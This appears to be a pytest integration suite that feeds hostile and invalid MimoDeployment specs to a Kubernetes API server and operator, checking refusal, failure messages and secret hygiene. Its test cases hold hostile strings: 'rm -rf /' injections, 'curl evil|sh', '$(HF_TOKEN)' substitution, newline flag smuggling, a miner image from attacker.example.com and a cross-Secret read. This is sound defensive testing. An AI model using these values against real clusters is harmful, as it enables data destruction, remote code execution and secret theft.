"""A corpus of invalid and hostile MimoDeployments against the real API server and a running operator.

Every case ends one of three ways, each something a user can see:
- refused at `kubectl apply --validate=strict` with a message naming the field;
- accepted, then `phase: Failed` (Planned/Ready False) with a message saying what is wrong, and no
  child object and no pod created;
- for `extraArgs` items that are merely odd (shell metacharacters, newlines, several flags in one
  item): accepted and passed to vLLM as exactly that one exec argument — no shell ever reads it, and
  Kubernetes' `$(VAR)` expansion cannot turn it into something else.

Around the corpus: the operator never crashes, never logs a Secret's value, and does not hot-loop on
deployments that keep failing (its own request counter over a window).
"""

from __future__ import annotations

import copy
import json
import secrets
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import yaml

from mimo_sandbox.cluster import Sandbox
from mimo_sandbox.pytest_plugin import NotYet, wait_for
from tests.integration.conftest import get_json
from tests.integration.operator_process import OperatorProcess
from tests.integration.test_crd_validation import set_path, valid

pytestmark = pytest.mark.sandbox

CANARY = f"canary-{secrets.token_hex(12)}"
CHILD_KINDS = "statefulsets,services,networkpolicies,poddisruptionbudgets,horizontalpodautoscalers"


@pytest.fixture(scope="module")
def ns(sandbox: Sandbox, mimo_crd: str) -> Iterator[str]:
    name = f"bad-input-{secrets.token_hex(3)}"
    sandbox.kubectl("create", "namespace", name)
    wait_for(
        lambda: sandbox.kubectl("-n", name, "get", "serviceaccount", "default", check=False).returncode == 0,
        timeout=30,
        description=f"ServiceAccount default in {name}",
    )
    sandbox.kubectl("-n", name, "create", "secret", "generic", "hf-token", f"--from-literal=token={CANARY}")
    try:
        yield name
    finally:
        sandbox.kubectl("-n", name, "delete", "mimo", "--all", "--wait=false", check=False)
        sandbox.kubectl("-n", name, "delete", "pods", "--all", "--wait=false", check=False)
        sandbox.kubectl("delete", "namespace", name, "--wait=false", check=False)
        wait_for(
            lambda: not get_json(sandbox, "-n", name, "get", "pods")["items"],
            timeout=60,
            description=f"pods of {name} gone",
        )


@pytest.fixture(scope="module")
def operator(
    sandbox: Sandbox, ns: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[OperatorProcess]:
    process = OperatorProcess(sandbox, ns, tmp_path_factory.mktemp("bad-input-operator")).start()
    try:
        yield process
    finally:
        process.kill()


def change(*pairs: tuple[str, Any]) -> Callable[[dict[str, Any]], None]:
    def apply_changes(body: dict[str, Any]) -> None:
        for path, value in pairs:
            set_path(body, path, value)

    return apply_changes


def extra(*args: str) -> Callable[[dict[str, Any]], None]:
    return change(("spec.serving.extraArgs", list(args)))


Case = tuple[str, Callable[[dict[str, Any]], None], str]

# Refused by the API server; the third item must appear in kubectl's error (the field).
REFUSED: list[Case] = [
    ("precision-number", change(("spec.precision", 8)), "spec.precision"),
    ("replicas-string", change(("spec.replicas", "two")), "spec.replicas"),
    ("replicas-1001", change(("spec.replicas", 1001)), "spec.replicas"),
    ("utilization-word", change(("spec.gpuMemoryUtilization", "high")), "spec.gpuMemoryUtilization"),
    ("min-concurrency-5000", change(("spec.context.minConcurrency", 5000)), "spec.context.minConcurrency"),
    ("model-name-10k", change(("spec.model.name", "x" * 10_000)), "spec.model.name"),
    ("extra-arg-2k", extra("--chat-template=" + "x" * 2000), "spec.serving.extraArgs"),
    ("extra-args-65-items", extra(*["--enable-prefix-caching"] * 65), "spec.serving.extraArgs"),
    ("served-name-substitution", change(("spec.model.servedName", "$(HF_TOKEN)")), "spec.model.servedName"),
    ("revision-shell", change(("spec.model.revision", "main; rm -rf /")), "spec.model.revision"),
    ("revision-newline", change(("spec.model.revision", "abc\n--trust-remote-code")), "spec.model.revision"),
    ("unknown-nested-field", change(("spec.gpu.count", 8)), "spec.gpu.count"),
    ("unknown-command-field", change(("spec.command", ["sh", "-c", "id"])), "spec.command"),
    ("name-substitution", change(("metadata.name", "$(id)")), "metadata.name"),
    ("name-uppercase", change(("metadata.name", "Mimo")), "metadata.name"),
    ("name-43-characters", change(("metadata.name", "m" * 43)), "metadata.name"),
    ("extra-arg-no-expert", extra("--no-enable-expert-parallel"), "spec.serving.extraArgs"),
    ("extra-arg-served-name", extra("--served-model-name=other"), "spec.serving.extraArgs"),
    ("extra-arg-download-dir", extra("--download-dir=/etc"), "spec.serving.extraArgs"),
    ("extra-arg-host", extra("--host", "0.0.0.0"), "spec.serving.extraArgs"),
    ("extra-arg-pp-alias", extra("-pp=2"), "spec.serving.extraArgs"),
    (
        "extra-arg-smuggled-second",
        extra("--max-num-seqs", "--tensor-parallel-size=2"),
        "spec.serving.extraArgs",
    ),
    ("extra-arg-spec-config", extra("--speculative-config={}"), "spec.serving.extraArgs"),
    (
        "autoscaling-target-shell",
        change(("spec.autoscaling", {"target": "5; drop"})),
        "spec.autoscaling.target",
    ),
    ("memory-shell", change(("spec.resources", {"memory": "1Gi; rm -rf /"})), "spec.resources.memory"),
    ("gpu-type-unknown", change(("spec.gpu.type", "H100")), "spec.gpu.type"),
    ("gpu-per-node-0", change(("spec.gpu.perNode", 0)), "spec.gpu.perNode"),
    (
        "custom-gpu-negative-memory",
        change(("spec.gpu", {"type": "custom", "memoryGiB": -1, "productLabel": "x"})),
        "spec.gpu.memoryGiB",
    ),
    (
        "host-path-relative",
        change(("spec.model.cache", {"hostPath": {"path": "etc/passwd"}})),
        "spec.model.cache.hostPath.path",
    ),
    ("kv-dtype-int8", change(("spec.kvCacheDtype", "int8")), "spec.kvCacheDtype"),
    ("pipeline-0", change(("spec.parallelism", {"pipeline": 0})), "spec.parallelism.pipeline"),
    ("load-rate-0", change(("spec.probes", {"loadRateMiBps": 0})), "spec.probes.loadRateMiBps"),
    ("env-not-a-list", change(("spec.serving.env", {"A": "b"})), "spec.serving.env"),
    ("secret-ref-without-key", change(("spec.model.tokenSecretRef", {"name": "hf-token"})), "key"),
    ("mtp-yes", change(("spec.speculativeDecoding", {"mtp": "yes"})), "spec.speculativeDecoding.mtp"),
    (
        "node-selector-number",
        change(("spec.placement.nodeSelector", {"zone": 1})),
        "spec.placement.nodeSelector",
    ),
]

# Accepted by the API server, refused by the operator: Failed with a message containing the text.
FAILED: list[Case] = [
    ("tensor-1-on-h200", change(("spec.gpu.type", "H200-141GB"), ("spec.parallelism", {"tensor": 1})), "TP1"),
    (
        "bf16-pipeline-fixed-1",
        change(("spec.precision", "bf16"), ("spec.parallelism", {"pipeline": 1})),
        "bf16",
    ),
    ("concurrency-4096-at-max-len", change(("spec.context.minConcurrency", 4096)), "4096"),
    (
        "custom-gpu-1-gib",
        change(("spec.gpu", {"type": "custom", "memoryGiB": 1, "productLabel": "tiny"})),
        "GiB",
    ),
    ("data-parallel-64", change(("spec.parallelism", {"data": 64})), "data=64"),
    (
        "fp8-on-l40s-one-node",
        change(("spec.gpu.type", "L40S-48GB"), ("spec.parallelism", {"pipeline": 1})),
        "L40S",
    ),
    (
        "full-kv-with-disabled-hybrid-manager",
        change(
            ("spec.context", {"maxModelLen": 262144, "minConcurrency": 512}),
            ("spec.serving.extraArgs", ["--disable-hybrid-kv-cache-manager"]),
        ),
        "262144",
    ),
    ("env-without-name", change(("spec.serving.env", [{"value": "x"}])), "env"),
    (
        "toleration-bad-operator",
        change(("spec.placement.tolerations", [{"key": "a", "operator": "Maybe"}])),
        "operator",
    ),
    (
        "affinity-wrong-type",
        change(("spec.placement.affinity", {"nodeAffinity": "everywhere"})),
        "nodeAffinity",
    ),
    (
        "priority-class-invalid",
        change(("spec.placement.priorityClassName", "Not Valid!")),
        "priorityClassName",
    ),
    (
        "secret-name-invalid",
        change(("spec.model.tokenSecretRef", {"name": "Bad Name!", "key": "token"})),
        "Bad Name!",
    ),
]

# Accepted by the API server, refused by the operator's default policy (api/policy.py): what a
# MimoDeployment's author may not ask for unless the chart allows it.
NOT_ALLOWED: list[Case] = [
    ("foreign-image", change(("spec.serving.image", "attacker.example.com/miner:1")), "spec.serving.image"),
    (
        "host-path",
        change(("spec.model.cache", {"hostPath": {"path": "/var/lib/kubelet"}})),
        "spec.model.cache.hostPath",
    ),
    (
        "env-reads-another-secret",
        change(
            (
                "spec.serving.env",
                [{"name": "DB", "valueFrom": {"secretKeyRef": {"name": "payments-db", "key": "password"}}}],
            )
        ),
        "spec.serving.env[0] (DB) reads Secret 'payments-db'",
    ),
    (
        "system-priority-class",
        change(("spec.placement.priorityClassName", "system-node-critical")),
        "spec.placement.priorityClassName",
    ),
]

# Accepted; must reach the StatefulSet as exactly one exec argument, never read by a shell or by
# Kubernetes' $(VAR) expansion (a `$(` must arrive escaped as `$$(`).
LITERAL: list[tuple[str, str]] = [
    ("shell-metacharacters", "--chat-template={{ x }}; rm -rf / && curl evil|sh `id`"),
    ("newline-flag-smuggling", "--enable-prefix-caching\n--tensor-parallel-size=1"),
    ("two-flags-one-item", "--max-num-seqs=1 --tensor-parallel-size 2"),
    ("env-substitution-of-the-token", "--chat-template=$(HF_TOKEN)"),
]

# A user needs to be told that what the deployment references does not exist. (Secrets: the operator
# may not read them; the kubelet's report is relayed instead, see test_operator.py.)
MISSING = [
    pytest.param(
        "missing-weights-pvc",
        change(("spec.model.cache", {"persistentVolumeClaim": {"claimName": "no-such-pvc"}})),
        "no-such-pvc",
        id="missing-weights-pvc",
    ),
]


def apply(sandbox: Sandbox, ns: str, body: dict[str, Any]) -> Any:
    return sandbox.kubectl(
        "apply",
        "--server-side",
        "--validate=strict",
        "--field-manager=bad-input-test",
        "-n",
        ns,
        "-f",
        "-",
        input=yaml.safe_dump(body),
        check=False,
    )


def children_of(sandbox: Sandbox, ns: str, name: str) -> list[str]:
    out = sandbox.kubectl(
        "-n", ns, "get", CHILD_KINDS, "-l", f"serving.mimo.dev/deployment={name}", "-o", "name"
    ).stdout
    return sorted(out.split())


def wait_failed(sandbox: Sandbox, ns: str, name: str) -> Any:
    def check() -> Any:
        obj = get_json(sandbox, "-n", ns, "get", "mimo", name)
        status = obj.get("status") or {}
        return status if status.get("phase") == "Failed" else NotYet(status or "no status")

    return wait_for(check, timeout=30, description=f"{name} phase Failed")


def total_cases() -> int:
    return len(REFUSED) + len(FAILED) + len(LITERAL) + len(MISSING)


def test_corpus_has_at_least_40_cases() -> None:
    assert total_cases() >= 40


@pytest.mark.parametrize(("case", "breaks", "field"), REFUSED, ids=[c[0] for c in REFUSED])
def test_refused_at_apply_naming_the_field(
    sandbox: Sandbox, ns: str, operator: OperatorProcess, case: str, breaks: Callable[..., None], field: str
) -> None:
    body = copy.deepcopy(valid(f"refused-{case}"[:42].rstrip("-")))
    breaks(body)
    proc = apply(sandbox, ns, body)
    assert proc.returncode != 0, f"{case} was accepted"
    assert field in proc.stderr, proc.stderr
    assert len(proc.stderr) < 4000, "the refusal echoes the whole hostile value back"
    assert "Error from server" in proc.stderr or "is invalid" in proc.stderr, proc.stderr


@pytest.mark.parametrize(("case", "breaks", "text"), FAILED, ids=[c[0] for c in FAILED])
def test_accepted_then_failed_with_a_message_and_no_children(
    sandbox: Sandbox, ns: str, operator: OperatorProcess, case: str, breaks: Callable[..., None], text: str
) -> None:
    name = f"failed-{case}"[:42].rstrip("-")
    body = copy.deepcopy(valid(name))
    breaks(body)
    proc = apply(sandbox, ns, body)
    assert proc.returncode == 0, proc.stderr
    status = wait_failed(sandbox, ns, name)
    ready = next(c for c in status["conditions"] if c["type"] == "Ready")
    assert ready["status"] == "False" and ready["reason"] and text in ready["message"], ready
    warnings = [
        e
        for e in get_json(
            sandbox, "-n", ns, "get", "events", "--field-selector", f"involvedObject.name={name}"
        )["items"]
        if e["type"] == "Warning"
    ]
    assert [e["reason"] for e in warnings] == [ready["reason"]], warnings
    assert children_of(sandbox, ns, name) == []  # nothing half-created


@pytest.mark.parametrize(("case", "breaks", "text"), NOT_ALLOWED, ids=[c[0] for c in NOT_ALLOWED])
def test_what_the_policy_does_not_allow_fails_with_no_children_until_taken_out(
    sandbox: Sandbox, ns: str, operator: OperatorProcess, case: str, breaks: Callable[..., None], text: str
) -> None:
    name = f"policy-{case}"
    allowed = valid(name)
    body = copy.deepcopy(allowed)
    breaks(body)
    assert apply(sandbox, ns, body).returncode == 0
    status = wait_failed(sandbox, ns, name)
    ready = next(c for c in status["conditions"] if c["type"] == "Ready")
    assert ready["reason"] == "NotAllowed" and text in ready["message"] and "policy." in ready["message"]
    assert children_of(sandbox, ns, name) == []  # not one child, not even the Services
    # The author takes the request out: the deployment goes ahead.
    assert apply(sandbox, ns, allowed).returncode == 0
    wait_for(
        lambda: f"statefulset.apps/{name}" in children_of(sandbox, ns, name) or NotYet("no StatefulSet"),
        timeout=30,
        description=f"{name} reconciled once allowed",
    )


@pytest.mark.parametrize(("case", "arg"), LITERAL, ids=[c[0] for c in LITERAL])
def test_odd_extra_arg_reaches_vllm_as_one_literal_exec_argument(
    sandbox: Sandbox, ns: str, operator: OperatorProcess, case: str, arg: str
) -> None:
    name = f"literal-{case}"[:42].rstrip("-")
    body = valid(name)
    body["spec"].update(
        {
            "replicas": 0,
            "model": {"tokenSecretRef": {"name": "hf-token", "key": "token"}},
            "serving": {"extraArgs": [arg]},
        }
    )
    proc = apply(sandbox, ns, body)
    assert proc.returncode == 0, proc.stderr

    def statefulset() -> Any:
        got = sandbox.kubectl("-n", ns, "get", "statefulset", name, "-o", "json", check=False)
        return json.loads(got.stdout) if got.returncode == 0 else NotYet(got.stderr.strip())

    sts = wait_for(statefulset, timeout=30, description=f"StatefulSet {name}")
    (vllm,) = sts["spec"]["template"]["spec"]["containers"]
    argv = [*vllm.get("command", []), *vllm["args"]]
    assert not {"sh", "bash", "/bin/sh", "/bin/bash", "-c"} & set(argv), argv  # exec form, no shell
    # Kubernetes expands $(VAR) in args from the container's env; `$$(` is how a literal `$(` survives.
    expected = arg.replace("$(", "$$(")
    assert vllm["args"][-1] == expected, vllm["args"][-3:]
    assert vllm["args"].count(expected) == 1


@pytest.mark.parametrize(("case", "breaks", "text"), MISSING)
def test_missing_secret_or_pvc_is_reported_in_a_condition(
    sandbox: Sandbox, ns: str, operator: OperatorProcess, case: str, breaks: Callable[..., None], text: str
) -> None:
    name = f"missing-{case}"[:42].rstrip("-")
    body = copy.deepcopy(valid(name))
    body["spec"]["replicas"] = 0  # the check must not depend on a pod being scheduled
    breaks(body)
    proc = apply(sandbox, ns, body)
    assert proc.returncode == 0, proc.stderr

    def reported() -> Any:
        status = get_json(sandbox, "-n", ns, "get", "mimo", name).get("status") or {}
        hits = [c for c in status.get("conditions", []) if c["status"] != "Unknown" and text in c["message"]]
        return hits or NotYet(status or "no status")

    wait_for(reported, timeout=20, description=f"a condition naming {text}")


def test_a_secret_value_never_reaches_the_log_status_events_or_children(
    sandbox: Sandbox, ns: str, operator: OperatorProcess
) -> None:
    refs = {"name": "hf-token", "key": "token"}
    good = valid("secret-user")
    good["spec"].update(
        {
            "replicas": 0,
            "model": {"tokenSecretRef": refs},
            "serving": {
                "apiKeySecretRef": refs,
                "env": [{"name": "EXTRA_TOKEN", "valueFrom": {"secretKeyRef": refs}}],
                "extraArgs": ["--chat-template=$(HF_TOKEN)"],
            },
        }
    )
    bad = copy.deepcopy(good)
    bad["metadata"]["name"] = "secret-user-infeasible"
    bad["spec"]["parallelism"] = {"tensor": 1}
    for body in (good, bad):
        assert apply(sandbox, ns, body).returncode == 0
    wait_for(
        lambda: sandbox.kubectl("-n", ns, "get", "statefulset", "secret-user", check=False).returncode == 0,
        timeout=30,
        description="StatefulSet secret-user",
    )
    wait_failed(sandbox, ns, "secret-user-infeasible")
    # Sync point: the operator logs "reconciled <ns>/<name>" after a reconcile's writes, so once
    # both lines are in the log, everything those reconciles had to say has been said.
    wait_for(
        lambda: all(
            f"reconciled {ns}/{name}:" in operator.log_path.read_text(errors="replace")
            for name in ("secret-user", "secret-user-infeasible")
        ),
        timeout=30,
        description="both reconciles logged",
    )
    assert CANARY not in operator.log_path.read_text(errors="replace")
    for kind in ("mimo", "events", "statefulsets", "services"):
        assert CANARY not in sandbox.kubectl("-n", ns, "get", kind, "-o", "json").stdout, kind
    env = get_json(sandbox, "-n", ns, "get", "statefulset", "secret-user")["spec"]["template"]["spec"][
        "containers"
    ][0]["env"]
    by_name = {e["name"]: e for e in env}
    assert by_name["HF_TOKEN"] == {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": refs}}
    assert "value" not in by_name["VLLM_API_KEY"]


def test_failing_deployments_do_not_hot_loop_and_the_operator_survives(
    sandbox: Sandbox, ns: str, operator: OperatorProcess
) -> None:
    # Two kinds of failure: refused by the planner (a permanent Failed), and refused by the API server
    # when the operator applies the StatefulSet (retried with back-off).
    for i in range(3):
        body = valid(f"loop-infeasible-{i}")
        body["spec"]["parallelism"] = {"tensor": 1}
        assert apply(sandbox, ns, body).returncode == 0
        body = valid(f"loop-rejected-{i}")
        body["spec"].update({"replicas": 0, "serving": {"env": [{"value": "no name"}]}})
        assert apply(sandbox, ns, body).returncode == 0
    # Sync point: every deployment has been refused once and says so (phase Failed, from the planner
    # or from the API server's refusal of the StatefulSet), so the window below sees what follows a
    # failure, not first attempts.
    for i in range(3):
        wait_failed(sandbox, ns, f"loop-infeasible-{i}")
        wait_failed(sandbox, ns, f"loop-rejected-{i}")
    failing = [
        o["metadata"]["name"]
        for o in get_json(sandbox, "-n", ns, "get", "mimo")["items"]
        if (o.get("status") or {}).get("phase") in (None, "Failed", "Pending")
    ]
    window = 15.0
    before = operator.requests()
    time.sleep(window)
    sent = operator.requests() - before
    print(f"{sent:.0f} API requests in {window:.0f} s with {len(failing)} failing deployments")
    # Back-off doubles per failure; a hot loop sends ~100 requests per second per deployment. Allow
    # one per second per failing deployment.
    assert sent <= len(failing) * window, f"{sent} requests in {window} s: {operator.metrics()}"

    assert operator.proc is not None and operator.proc.poll() is None, operator.log_tail()
    assert operator.healthy()
    log = operator.log_path.read_text(errors="replace")
    assert "Traceback" not in log, operator.log_tail(80)
